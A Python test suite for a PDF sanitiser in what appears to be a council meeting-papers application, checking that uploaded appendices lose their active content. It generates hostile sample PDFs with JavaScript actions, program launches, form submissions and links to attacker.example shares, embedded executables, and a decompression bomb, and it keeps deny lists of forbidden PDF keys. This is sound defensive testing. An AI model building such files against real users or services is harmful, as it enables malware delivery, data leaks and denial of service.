"""Active content in appendices: every kind is removed, in the stored file and in both packs.

Each hostile PDF is generated here with pikepdf: one page of visible text, plus one kind of active
content carrying the marker EVIL. It is uploaded through the editor's form; the stored file is then
read with pypdf, a different reader from the one that rebuilt it, and must keep its text and hold
no script, action, attached or embedded file, form, multimedia or link other than http(s) and
mailto anywhere, and no trace of the marker. The same corpus goes into a meeting's public and
members' packs, which are checked the same way.
"""

import io
import re
import resource
import zlib

import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils import timezone
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject, StreamObject, TextStringObject

from boards import services as agenda
from boards.models import AgendaPack
from boards.packs import PackBuildError, build_pack
from boards.tasks import build_pack_now
from reports.models import Appendix, Report
from reports.pdfdisarm import RULES_VERSION
from tests.appendices import stored_appendix

pytestmark = pytest.mark.django_db


@pytest.fixture
def published(demo, django_capture_on_commit_callbacks):
    """The upcoming meeting with the public and the exempt waiting reports placed, the agenda published."""
    meeting = demo.board.meetings.filter(starts_at__gt=timezone.now()).get()
    public = Report.objects.get(subject="Better Care Fund Plan 2025 to 2027")
    exempt = Report.objects.get(subject="Sexual Health Services: Contract Award")
    agenda.agenda_add_report(meeting=meeting, report=public, user=demo.clerk)
    agenda.agenda_add_report(meeting=meeting, report=exempt, user=demo.clerk)
    with django_capture_on_commit_callbacks(execute=True):
        agenda.agenda_publish(meeting=meeting, user=demo.clerk)
    return meeting, public, exempt


MB = 1024 * 1024
EXE = b"MZ\x90\x00EVIL executable\x00PE\x00\x00"

# What a reader must never find in a disarmed file (read with pypdf).
ACTION_TYPES = {
    "/JavaScript", "/Launch", "/GoToR", "/GoToE", "/GoToDp", "/SubmitForm", "/ImportData", "/ResetForm", "/Sound",
    "/Movie", "/Rendition", "/Hide", "/Named", "/SetOCGState", "/Trans", "/GoTo3DView", "/RichMediaExecute", "/Thread",
}  # fmt: skip
FORBIDDEN_KEYS = {"/JS", "/AA", "/OpenAction", "/AF", "/EF", "/RF", "/EmbeddedFiles", "/JavaScript", "/XFA",
                  "/AcroForm", "/RichMediaContent", "/OPI", "/Ref", "/FS", "/Collection", "/Alternates"}  # fmt: skip
FORBIDDEN_SUBTYPES = {"/FileAttachment", "/Widget", "/Sound", "/Movie", "/Screen", "/RichMedia", "/3D", "/PS"}
FORBIDDEN_TYPES = {"/Filespec", "/EmbeddedFile"}
WEB_LINK = re.compile(r"(https?://[^\s\\]+|mailto:\S+)\Z", re.IGNORECASE)


def active_content(data):
    """Everything active in a PDF, found by walking every object pypdf reaches from the trailer."""
    reader = PdfReader(io.BytesIO(data))
    findings, seen = [], set()
    stack = [reader.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            if obj.idnum in seen:
                continue
            seen.add(obj.idnum)
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            for key, value in obj.items():
                plain = value.get_object() if isinstance(value, IndirectObject) else value
                if key in FORBIDDEN_KEYS:
                    findings.append(f"key {key}")
                if key == "/S" and plain in ACTION_TYPES:
                    findings.append(f"action {plain}")
                if key == "/Subtype" and plain in FORBIDDEN_SUBTYPES:
                    findings.append(f"annotation or XObject {plain}")
                if key == "/Type" and plain in FORBIDDEN_TYPES:
                    findings.append(f"object {plain}")
                if key == "/URI" and not WEB_LINK.match(str(plain)):
                    findings.append(f"link to {plain!r}")
                if key == "/F" and isinstance(obj, StreamObject):
                    findings.append("stream data in another file")
                if key not in ("/Parent", "/P"):
                    stack.append(value)
            if isinstance(obj, StreamObject) and b"EVIL" in obj.get_data():
                findings.append("the marker in a stream")
        elif isinstance(obj, ArrayObject):
            stack.extend(obj)
        elif isinstance(obj, TextStringObject | NameObject | bytes | str) and "EVIL" in str(obj):
            findings.append(f"the marker in {str(obj)[:60]!r}")
    if b"EVIL" in data:
        findings.append("the marker in the file's bytes")
    return findings


def page_texts(data):
    return [" ".join((page.extract_text() or "").split()) for page in PdfReader(io.BytesIO(data)).pages]


# The corpus ---------------------------------------------------------------------------------------


def js(pdf, code="app.alert('EVIL')"):
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def exe_filespec(pdf, name="EVIL.exe"):
    stream = pdf.make_stream(EXE)
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)))


def unc_filespec(pdf, path=r"\\attacker.example\share\EVIL.pdf"):
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(path)))


def annotation(pdf, page, subtype, **keys):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=[72, 600, 300, 640], **keys))
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(annot)
    return annot


def link(pdf, page, action):
    return annotation(pdf, page, "/Link", A=action, Border=[0, 0, 0])


def uri(target):
    return Dictionary(S=Name.URI, URI=String(target))


def appearance(pdf, text, width=228, height=40):
    stream = pdf.make_stream(f"BT /Helv 14 Tf 2 12 Td ({text}) Tj ET".encode())
    stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, [0, 0, width, height]
    stream.Resources = Dictionary(Font=Dictionary(Helv=helvetica(pdf)))
    return Dictionary(N=stream)


def helvetica(pdf):
    return pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))


def form_field(pdf, page, parent_keys=None, widget_keys=None, value="Field value"):
    """A text field whose widget shows `value`, its parent holding `parent_keys`."""
    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("parent"), V=String(value), **(parent_keys or {})))
    widget = annotation(pdf, page, "/Widget", Parent=parent, AP=appearance(pdf, value), F=4, **(widget_keys or {}))
    parent.Kids = [widget]
    pdf.Root.AcroForm = Dictionary(Fields=[parent], DA=String("/Helv 0 Tf 0 g"))
    return parent, widget


def form_xobject(pdf, page, **keys):
    xobject = pdf.make_stream(b"0 0 1 rg 0 0 50 50 re f")
    xobject.Type, xobject.Subtype, xobject.BBox = Name.XObject, Name.Form, [0, 0, 50, 50]
    for key, value in keys.items():
        xobject["/" + key] = value
    page.Resources.XObject = Dictionary(X1=xobject)
    page.Contents.write(page.Contents.read_bytes() + b"\nq 1 0 0 1 72 400 cm /X1 Do Q")
    return xobject


def image(pdf, page, **keys):
    picture = pdf.make_stream(zlib.compress(b"\xff\x00\x00" * 4), Filter=Name.FlateDecode)
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 2, 2
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
    for key, value in keys.items():
        picture["/" + key] = value
    page.Resources.XObject = Dictionary(Im1=picture)
    page.Contents.write(page.Contents.read_bytes() + b"\nq 50 0 0 50 72 300 cm /Im1 Do Q")
    return picture


def tag(pdf, page, *kids, **keys):
    """A structure tree of one element holding `kids`, the page's text as MCID 0."""
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    element = pdf.make_indirect(
        Dictionary(Type=Name.StructElem, S=Name.P, P=root, Pg=page, K=Array([0, *kids]), **keys)
    )
    root.K = element
    root.ParentTree = Dictionary(Nums=[0, Array([element])])
    root.ParentTreeNextKey = 1
    page.StructParents = 0
    pdf.Root.StructTreeRoot = root
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    return element


def named_tree(pdf, kind, name, value):
    names = pdf.Root.get("/Names") or Dictionary()
    names[kind] = Dictionary(Names=[String(name), value])
    pdf.Root.Names = names


def bookmark(pdf, action):
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Bookmark", action=action))


def _hidden_in_properties(pdf, page):
    page.Resources.Properties = Dictionary(MC0=Dictionary(S=Name.JavaScript, JS=String("EVIL"), Next=js(pdf)))


def _hidden_in_a_font(pdf, page):
    page.Resources.Font.F1.EvilAction = js(pdf)
    page.Resources.Font.F1.AA = Dictionary(O=js(pdf))


def _three_d(pdf, page):
    stream = pdf.make_stream(b"U3D EVIL", Type=Name("/3D"), Subtype=Name.U3D)
    annotation(pdf, page, "/3D", **{"/3DD": stream})


def _rich_media(pdf, page):
    assets = Dictionary(Names=[String("EVIL.swf"), exe_filespec(pdf, "EVIL.swf")])
    content = Dictionary(Assets=assets, Configurations=[Dictionary(Type=Name.RichMediaConfiguration)])
    annotation(pdf, page, "/RichMedia", RichMediaContent=content)


def _sound(pdf, page):
    sound = pdf.make_stream(b"EVIL sound", Type=Name.Sound, R=8000)
    annotation(pdf, page, "/Sound", Sound=sound)


class Update:
    """An incremental update to append to the saved file: {object number: its new body}, made from the file."""

    def __init__(self, objects):
        self.objects = objects

    def __call__(self, data):
        document = pikepdf.open(io.BytesIO(data))
        size, root, pages = int(document.trailer.Size), document.Root.objgen[0], document.Root.Pages.objgen[0]
        previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
        out = io.BytesIO(data)
        out.seek(0, 2)
        offsets = {}
        for number, body in self.objects(size, root, pages).items():
            offsets[number] = out.tell()
            out.write(b"\n%d 0 obj\n%s\nendobj\n" % (number, body))
        xref = out.tell()
        out.write(b"xref\n")
        out.writelines(b"%d 1\n%010d 00000 n \n" % (number, offsets[number] + 1) for number in sorted(offsets))
        trailer = b"<< /Size %d /Root %d 0 R /Prev %d >>" % (max(size, *offsets) + 1, root, previous)
        out.write(b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, xref))
        return out.getvalue()


SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert('EVIL')) >>"


HOSTILE = {
    # Scripts, wherever a reader runs them.
    "JavaScript opening the document": lambda pdf, page: setattr(pdf.Root, "OpenAction", js(pdf)),
    "document-level JavaScript": lambda pdf, page: named_tree(pdf, "/JavaScript", "init", js(pdf)),
    "JavaScript as the document closes (catalog /AA)": lambda pdf, page: setattr(
        pdf.Root, "AA", Dictionary(WC=js(pdf), WP=js(pdf))
    ),
    "JavaScript as a page opens (page /AA)": lambda pdf, page: setattr(page, "AA", Dictionary(O=js(pdf))),
    "JavaScript on a bookmark": lambda pdf, page: bookmark(pdf, js(pdf)),
    "JavaScript on a link": lambda pdf, page: link(pdf, page, js(pdf)),
    "JavaScript on an annotation's mouse-over (/AA)": lambda pdf, page: annotation(
        pdf, page, "/Link", Dest=[page, Name.Fit], AA=Dictionary(E=js(pdf))
    ),
    "JavaScript chained after a web link (/Next)": lambda pdf, page: link(
        pdf, page, Dictionary(S=Name.URI, URI=String("https://www.example.org/"), Next=js(pdf))
    ),
    "JavaScript on a form field's parent": lambda pdf, page: form_field(
        pdf, page, parent_keys={"AA": Dictionary(K=js(pdf), C=js(pdf))}
    ),
    "JavaScript on a form field's widget": lambda pdf, page: form_field(
        pdf, page, widget_keys={"A": js(pdf), "AA": Dictionary(Fo=js(pdf))}
    ),
    "JavaScript on a structure element's object (OBJR)": lambda pdf, page: tag(
        pdf, page, Dictionary(Type=Name.OBJR, Pg=page, Obj=form_field(pdf, page, widget_keys={"A": js(pdf)})[1])
    ),
    "JavaScript in a marked-content property list": _hidden_in_properties,
    "JavaScript in unknown keys of a font": _hidden_in_a_font,
    "JavaScript in a square annotation's /AA": lambda pdf, page: annotation(
        pdf, page, "/Square", AA=Dictionary(PO=js(pdf))
    ),
    "JavaScript added by an update": lambda pdf, page: Update(
        lambda size, root, pages: {
            root: b"<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R >>" % (pages, size),
            size: SCRIPT,
        }
    ),
    "JavaScript in an object nothing refers to": lambda pdf, page: Update(lambda size, root, pages: {size: SCRIPT}),
    "XFA form with a script": lambda pdf, page: setattr(
        pdf.Root, "AcroForm", Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp><script>EVIL</script></xdp>"))
    ),
    # Links to programs, files and network shares.
    "link to a javascript: URI": lambda pdf, page: link(pdf, page, uri("javascript:app.alert('EVIL')")),
    "link to a javascript: URI in odd case with a space": lambda pdf, page: link(pdf, page, uri(" JaVaScRiPt:EVIL()")),
    "link to a data: URI": lambda pdf, page: link(pdf, page, uri("data:text/html,<script>EVIL</script>")),
    "link to a file: URI": lambda pdf, page: link(pdf, page, uri("file:///etc/EVIL")),
    "link to an smb: URI": lambda pdf, page: link(pdf, page, uri("smb://attacker.example/EVIL")),
    "link to a UNC path": lambda pdf, page: link(pdf, page, uri(r"\\attacker.example\EVIL\x")),
    "link relative to a network base URI": lambda pdf, page: (
        setattr(pdf.Root, "URI", Dictionary(Base=String("smb://attacker.example/EVIL/"))),
        link(pdf, page, uri("EVIL.pdf")),
    ),
    "remote go-to to a network share (GoToR)": lambda pdf, page: link(
        pdf, page, Dictionary(S=Name.GoToR, F=unc_filespec(pdf), D=[0, Name.Fit])
    ),
    "remote go-to opening the document": lambda pdf, page: setattr(
        pdf.Root, "OpenAction", Dictionary(S=Name.GoToR, F=String(r"\\attacker.example\EVIL.pdf"), D=[0, Name.Fit])
    ),
    "remote go-to on a bookmark": lambda pdf, page: bookmark(
        pdf, Dictionary(S=Name.GoToR, F=String(r"\\attacker.example\EVIL.pdf"), D=[0, Name.Fit])
    ),
    "embedded go-to (GoToE)": lambda pdf, page: link(
        pdf, page, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("EVIL")), D=[0, Name.Fit])
    ),
    "launch a program": lambda pdf, page: link(
        pdf, page, Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("EVIL")))
    ),
    "launch a program as a page closes": lambda pdf, page: setattr(
        page, "AA", Dictionary(C=Dictionary(S=Name.Launch, F=String("EVIL.exe")))
    ),
    "thread in another file": lambda pdf, page: link(
        pdf, page, Dictionary(S=Name.Thread, F=String(r"\\attacker.example\EVIL.pdf"), D=0)
    ),
    # Form actions.
    "SubmitForm": lambda pdf, page: link(
        pdf, page, Dictionary(S=Name.SubmitForm, F=unc_filespec(pdf, "https://attacker.example/EVIL"), Flags=4)
    ),
    "SubmitForm on a button": lambda pdf, page: form_field(
        pdf, page, widget_keys={"A": Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/EVIL"))}
    ),
    "ImportData": lambda pdf, page: link(pdf, page, Dictionary(S=Name.ImportData, F=String("EVIL.fdf"))),
    "ResetForm": lambda pdf, page: link(pdf, page, Dictionary(S=Name.ResetForm, Fields=[String("EVIL")])),
    # Attached and embedded files.
    "embedded file (name tree) holding an executable": lambda pdf, page: named_tree(
        pdf, "/EmbeddedFiles", "EVIL.exe", exe_filespec(pdf)
    ),
    "PDF 2.0 attached file (/AF) on the catalog": lambda pdf, page: setattr(pdf.Root, "AF", [exe_filespec(pdf)]),
    "PDF 2.0 attached file (/AF) on a page": lambda pdf, page: setattr(page, "AF", [exe_filespec(pdf)]),
    "PDF 2.0 attached file (/AF) on a form XObject": lambda pdf, page: form_xobject(pdf, page, AF=[exe_filespec(pdf)]),
    "PDF 2.0 attached file (/AF) on a structure element": lambda pdf, page: tag(pdf, page, AF=[exe_filespec(pdf)]),
    "file attachment annotation": lambda pdf, page: annotation(pdf, page, "/FileAttachment", FS=exe_filespec(pdf)),
    "portfolio (collection)": lambda pdf, page: (
        named_tree(pdf, "/EmbeddedFiles", "EVIL.exe", exe_filespec(pdf)),
        setattr(pdf.Root, "Collection", Dictionary(Type=Name.Collection, D=String("EVIL.exe"))),
    ),
    # Multimedia.
    "RichMedia annotation": _rich_media,
    "Screen annotation with a rendition": lambda pdf, page: annotation(
        pdf, page, "/Screen", A=Dictionary(S=Name.Rendition, OP=0, JS=String("EVIL"))
    ),
    "Movie annotation": lambda pdf, page: annotation(pdf, page, "/Movie", Movie=Dictionary(F=String("EVIL.mov"))),
    "Sound annotation": _sound,
    "3D annotation": _three_d,
    "sound action": lambda pdf, page: link(pdf, page, Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"EVIL"))),
    # Content from elsewhere.
    "image whose data is in another file (/F)": lambda pdf, page: image(pdf, page, F=unc_filespec(pdf)),
    "image with OPI pointing at a network share": lambda pdf, page: image(
        pdf, page, OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI, Version=2.0, F=unc_filespec(pdf))})
    ),
    "image with alternates": lambda pdf, page: image(
        pdf, page, Alternates=[Dictionary(Image=pdf.make_stream(b"EVIL"))]
    ),
    "reference XObject to another file (/Ref)": lambda pdf, page: form_xobject(
        pdf, page, Ref=Dictionary(F=unc_filespec(pdf), Page=0)
    ),
    "PostScript XObject": lambda pdf, page: setattr(
        page.Resources,
        "XObject",
        Dictionary(PS1=pdf.make_stream(b"EVIL", Type=Name.XObject, Subtype=Name.PS)),
    ),
    # Other actions.
    "named action": lambda pdf, page: link(pdf, page, Dictionary(S=Name.Named, N=Name.Print, Next=js(pdf))),
    "hide action": lambda pdf, page: link(pdf, page, Dictionary(S=Name.Hide, T=String("EVIL"))),
    "set layer state": lambda pdf, page: link(pdf, page, Dictionary(S=Name.SetOCGState, State=[], Next=js(pdf))),
}


def hostile_pdf(kind):
    """A one-page PDF reading "Visible page <n>", carrying one kind of active content."""
    number = list(HOSTILE).index(kind)
    pdf = pikepdf.new()
    content = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td (Visible page {number}) Tj ET".encode())
    page = Dictionary(Type=Name.Page, MediaBox=[0, 0, 595, 842], Contents=content)
    page.Resources = Dictionary(Font=Dictionary(F1=helvetica(pdf)))
    pdf.pages.append(pikepdf.Page(page))
    page = pdf.pages[0].obj
    made = HOSTILE[kind](pdf, page)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return made(out.getvalue()) if isinstance(made, Update) else out.getvalue()


def upload(client, report, data, title="Hostile file"):
    file = SimpleUploadedFile("appendix.pdf", data, content_type="application/pdf")
    return client.post(f"/reports/{report.pk}/appendices/", {"title": title, "file": file})


def test_it_builds_a_corpus_whose_every_file_carries_what_it_says(db):
    for kind in HOSTILE:
        assert active_content(hostile_pdf(kind)), f"{kind}: the corpus must hold active content to remove"


@pytest.mark.parametrize("kind", HOSTILE)
def test_it_stores_an_appendix_without_its_active_content(login, demo, kind):
    number = list(HOSTILE).index(kind)
    response = upload(login(demo.officer), demo.draft, hostile_pdf(kind))
    assert response.status_code == 302, response.content.decode()[:2000]
    appendix = demo.draft.appendices.get()
    with appendix.file.open("rb") as handle:
        stored = handle.read()
    assert active_content(stored) == []
    assert page_texts(stored)[0].startswith(f"Visible page {number}")
    assert appendix.is_disarmed and appendix.page_count == 1 and appendix.size == len(stored)
    served = b"".join(login(demo.officer).get(f"/reports/{demo.draft.pk}/appendices/{appendix.pk}/").streaming_content)
    assert served == stored


def test_it_tells_the_author_what_was_removed(login, demo):
    client = login(demo.officer)
    response = upload(client, demo.draft, hostile_pdf("JavaScript on a form field's parent"), title="Form")
    page = client.get(response["Location"]).content.decode()
    assert "Appendix “Form” added. Removed from the file, as an appendix may not carry them:" in page
    assert "form fields (their contents are kept as text on the page)" in page and "scripts" in page


def test_it_keeps_what_a_filled_in_form_showed_as_text_on_the_page(login, demo):
    upload(login(demo.officer), demo.draft, hostile_pdf("JavaScript on a form field's parent"))
    with demo.draft.appendices.get().file.open("rb") as handle:
        stored = handle.read()
    assert "Field value" in page_texts(stored)[0]
    assert "/AcroForm" not in PdfReader(io.BytesIO(stored)).trailer["/Root"]


def test_it_keeps_a_web_link_and_drops_what_was_chained_after_it(login, demo):
    upload(login(demo.officer), demo.draft, hostile_pdf("JavaScript chained after a web link (/Next)"))
    with demo.draft.appendices.get().file.open("rb") as handle:
        page = PdfReader(handle).pages[0]
        actions = [annotation.get_object()["/A"] for annotation in page["/Annots"]]
    assert actions == [{"/S": "/URI", "/URI": "https://www.example.org/"}]


def test_it_keeps_pages_text_images_tags_bookmarks_and_safe_links(login, demo):
    """A tagged PDF as an office suite would export it survives the rebuild whole."""
    from weasyprint import HTML

    picture = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
    html = f"""<html lang="en-GB"><title>Scheme list</title><style>h1, h2 {{ bookmark-level: 1 }}</style><body>
      <h1>Scheme list</h1><p>See <a href="https://www.example.org/schemes">the schemes</a>,
      <a href="mailto:clerk@example.gov.uk">write to us</a> or <a href="#costs">the costs</a>.</p>
      <img src="{picture}" alt="A dot" width="40" height="40">
      <h2 id="costs" style="break-before: page">Costs</h2><table><tr><th>Scheme</th><th>Cost</th></tr>
      <tr><td>One</td><td>£1m</td></tr></table></body></html>"""
    original = HTML(string=html).write_pdf(pdf_variant="pdf/ua-1")
    upload(login(demo.officer), demo.draft, original)
    with demo.draft.appendices.get().file.open("rb") as handle:
        stored = handle.read()
    before, after = PdfReader(io.BytesIO(original)), PdfReader(io.BytesIO(stored))
    assert page_texts(stored) == page_texts(original) and len(after.pages) == 2
    assert [p.mediabox for p in after.pages] == [p.mediabox for p in before.pages]
    assert [len(p.images) for p in after.pages] == [len(p.images) for p in before.pages] and len(after.pages[0].images)
    assert [item.title for item in after.outline] == ["Scheme list", "Costs"]
    assert after.get_destination_page_number(after.outline[1]) == 1

    def links(reader):
        found = []
        for annotation in reader.pages[0].get("/Annots", []):
            annotation = annotation.get_object()
            if "/A" in annotation:
                found.append(annotation["/A"]["/URI"])
            elif isinstance(annotation["/Dest"], ArrayObject):  # the rebuilt file: the page itself
                found.append(reader.get_page_number(annotation["/Dest"][0].get_object()))
            else:  # WeasyPrint's: a named destination
                found.append(reader.get_destination_page_number(reader.named_destinations[annotation["/Dest"]]))
        return found

    assert links(after) == links(before) == ["https://www.example.org/schemes", "mailto:clerk@example.gov.uk", 1]

    def tags(reader):
        found = []
        stack = [reader.trailer["/Root"]["/StructTreeRoot"]["/K"]]
        while stack:
            element = stack.pop()
            element = element.get_object() if isinstance(element, IndirectObject) else element
            if isinstance(element, ArrayObject):
                stack.extend(reversed(element))
            elif isinstance(element, DictionaryObject) and "/S" in element:
                found.append(element["/S"])
                stack.append(element.get("/K", ArrayObject()))
        return found

    assert tags(after) == tags(before) and {"/H1", "/Table", "/Figure", "/Link"} <= set(tags(after))
    assert after.trailer["/Root"]["/MarkInfo"]["/Marked"]
    assert active_content(stored) == []


def test_it_keeps_hidden_layers_hidden(login, demo):
    pdf = pikepdf.new()
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Draft notes")))
    content = pdf.make_stream(b"/OC /L0 BDC BT /F1 24 Tf 72 720 Td (Hidden notes) Tj ET EMC")
    page = Dictionary(Type=Name.Page, MediaBox=[0, 0, 595, 842], Contents=content)
    page.Resources = Dictionary(Font=Dictionary(F1=helvetica(pdf)), Properties=Dictionary(L0=layer))
    pdf.pages.append(pikepdf.Page(page))
    pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer], Order=[layer]))
    out = io.BytesIO()
    pdf.save(out)
    upload(login(demo.officer), demo.draft, out.getvalue())
    with demo.draft.appendices.get().file.open("rb") as handle:
        rebuilt = pikepdf.open(io.BytesIO(handle.read()))
    hidden = rebuilt.Root.OCProperties.D.OFF[0]
    assert hidden.Name == "Draft notes"
    assert rebuilt.pages[0].Resources.Properties.L0.objgen == hidden.objgen


# The double /Contents bomb ------------------------------------------------------------------------


def raw_pdf(objects):
    """A PDF written byte by byte, so a dictionary can hold a key twice (pikepdf would not write it)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def flate_bomb(megabytes):
    """A content stream that inflates to `megabytes` of drawing operators, compressed about 1,000 to 1."""
    compressor, chunk = zlib.compressobj(9), b"0 0 m\n" * (MB // 6)
    return b"".join([*(compressor.compress(chunk) for _ in range(megabytes)), compressor.flush()])


def double_contents_bomb(megabytes=1024):
    """One page with two /Contents entries: a small one first (which pypdf reads) and a bomb last
    (which qpdf, and so pikepdf, reads). Checked with one and joined with the other, it inflated a
    1.5 MB upload to 1 GiB in the pack builder."""
    small = b"BT /F1 24 Tf 72 720 Td (Visible page) Tj ET"
    bomb = flate_bomb(megabytes)
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Contents 5 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(small), small),
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(bomb), bomb),
    ])  # fmt: skip


@pytest.fixture(scope="module")
def bomb():
    return double_contents_bomb()


def test_it_refuses_the_double_contents_bomb_by_the_field(login, demo, bomb):
    assert len(bomb) < 2 * MB
    response = upload(login(demo.officer), demo.draft, bomb, title="Bomb")
    assert response.status_code == 400
    assert "This PDF is too complex to check." in response.content.decode()
    assert 'value="Bomb"' in response.content.decode()
    assert not demo.draft.appendices.exists()


def plant(report, data, title, **fields):
    """An appendix stored without the upload's rebuild, as files stored before it were."""
    appendix = Appendix(report=report, position=report.appendices.count() + 1, title=title, size=len(data), **fields)
    appendix.file.save("appendix.pdf", ContentFile(data), save=False)
    appendix.save()
    return appendix


def test_it_bounds_the_pack_build_whatever_an_appendix_holds(published, bomb, settings):
    """Even a bomb marked as rebuilt (the rules missed it, or storage was tampered with) costs the
    worker no more than the join's bound: the join's child is stopped and the build fails with the reason."""
    meeting, public, _ = published
    plant(public, bomb, "Bomb", page_count=1, disarmed_version=RULES_VERSION)
    settings.PACK_JOIN_MEMORY_MB = 256
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(PackBuildError, match="needed more than 256 MB of memory, so it was stopped"):
        build_pack(meeting, AgendaPack.Edition.PUBLIC)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # kB: the bomb went off elsewhere
    pack = meeting.packs.get(edition=AgendaPack.Edition.PUBLIC)
    settings.PACK_BUILD_ATTEMPTS = 1  # no retry: the first failure is shown (tests/test_worker.py covers retries)
    build_pack_now(pack.pk)
    pack.refresh_from_db()
    assert pack.state == AgendaPack.State.FAILED and "256 MB" in pack.error


# Both packs ---------------------------------------------------------------------------------------


def test_it_joins_every_disarmed_appendix_into_both_packs_without_its_active_content(published):
    """The corpus, half on the public report and half on the exempt one (members' pack only)."""
    meeting, public, exempt = published
    for number, kind in enumerate(HOSTILE):
        stored_appendix(public if number % 2 else exempt, kind[:200], hostile_pdf(kind), position=number)
    members = build_pack(meeting, AgendaPack.Edition.MEMBERS).pdf
    public_pack = build_pack(meeting, AgendaPack.Edition.PUBLIC).pdf
    for data, numbers in [(members, range(len(HOSTILE))), (public_pack, range(1, len(HOSTILE), 2))]:
        assert active_content(data) == []
        text = " ".join(page_texts(data))
        assert all(f"Visible page {n} " in text + " " for n in numbers)


def test_it_leaves_an_appendix_not_rebuilt_out_of_packs_and_downloads(client, login, demo, published):
    meeting, public, _ = published
    appendix = plant(public, hostile_pdf("JavaScript on a bookmark"), "Old upload", page_count=1)
    response = client.get(f"/papers/{public.pk}/appendices/{appendix.pk}/")
    assert response.status_code == 503 and "waiting to be checked and rebuilt" in response.content.decode()
    assert response["Retry-After"] == "3600"
    assert login(demo.clerk).get(f"/reports/{public.pk}/appendices/{appendix.pk}/").status_code == 503
    data = build_pack(meeting, AgendaPack.Edition.PUBLIC).pdf
    assert active_content(data) == []
    assert any("could not be included in this pack" in text and "Old upload" in text for text in page_texts(data))
    # The report's own PDF attaches its appendices too: the same gate keeps this one out.
    public.pdf_key = ""
    public.save(update_fields=["pdf_key"])
    own = login(demo.clerk).get(f"/reports/{public.pk}/pdf/")
    data = b"".join(own.streaming_content) if own.streaming else own.content
    assert active_content(data) == []
    assert any("could not be attached to this PDF" in text and "Old upload" in text for text in page_texts(data))


# Files stored before the rebuild existed ---------------------------------------------------------


def test_it_rebuilds_stored_appendices_and_queues_their_packs(
    client, demo, published, django_capture_on_commit_callbacks
):
    meeting, public, _ = published
    for pack in meeting.packs.all():
        build_pack_now(pack.pk)
    old = plant(public, hostile_pdf("PDF 2.0 attached file (/AF) on a page"), "Old upload", page_count=1)
    bomb = plant(public, double_contents_bomb(100), "Old bomb", page_count=1)
    old_name = old.file.name
    with django_capture_on_commit_callbacks(execute=True):
        call_command("disarm_appendices", stdout=io.StringIO())
    old.refresh_from_db()
    bomb.refresh_from_db()
    assert old.is_disarmed and old.file.name != old_name and not old.file.storage.exists(old_name)
    assert not old.history.filter(file=old_name).exists()  # the report's history names the rebuilt file
    served = client.get(f"/papers/{public.pk}/appendices/{old.pk}/")
    assert served.status_code == 200 and active_content(b"".join(served.streaming_content)) == []
    assert not bomb.is_disarmed and "too complex to check" in bomb.problem
    refused = client.get(f"/papers/{public.pk}/appendices/{bomb.pk}/")
    assert refused.status_code == 410 and "could not be made safe to publish" in refused.content.decode()
    states = dict(meeting.packs.values_list("edition", "state"))
    assert states == {"public": "queued", "members": "queued", "front": "ready"}  # the front sheet names no appendix
    output = io.StringIO()
    call_command("disarm_appendices", stdout=output)  # again: only the refused one is tried
